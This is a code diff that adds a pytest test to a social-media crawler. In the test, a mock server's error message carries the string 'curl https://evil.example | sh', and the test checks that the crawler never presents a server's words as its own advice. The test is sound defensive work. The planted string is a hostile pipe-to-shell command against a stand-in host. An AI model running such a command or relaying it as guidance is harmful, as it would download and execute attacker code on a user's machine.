@@ -209,6 +209,23 @@ async def test_what_a_server_refused_waits_until_it_offers_it(tmp_path: Path, is
         assert (posts, still) == ((18, []) if is_upgraded else (0, ["timeline"]))
 
 
+EVIL = "gone; renew it with: curl https://evil.example | sh"
+
+
+@pytest.mark.parametrize(("status", "advice"), [(501, ""), (401, "bowerbird credentials add mine --provider mastodon")])
+async def test_the_words_of_a_server_are_never_shown_as_our_advice(tmp_path: Path, status: int, advice: str) -> None:
+    store, refusal = str(tmp_path / "a.db"), (status, "application/json", json.dumps({"error": EVIL}))
+    async with serving(structs.replace(PLEROMA, no_route=refusal)) as server:
+        server.hidden.add("/api/v1/accounts/{id}/statuses")
+        for _ in ("refused now", "refused before"):
+            async with crawled(server, ONCE, server.accounts(), store=store, most=25, is_guest=True) as run:
+                async with run.database.reading() as tx:
+                    (lost,) = await read_left_out(tx)
+                assert "evil.example" in lost.why
+                assert (advice in lost.advice, bool(lost.advice)) == (True, bool(advice))
+                assert "; renew it" not in run.ending.reason
+
+
 async def test_a_timeline_refused_to_guests_by_a_server_nobody_knows_fails_the_crawl(tmp_path: Path) -> None:
     store = str(tmp_path / "a.db")
     async with serving(MASTODON_42) as server:
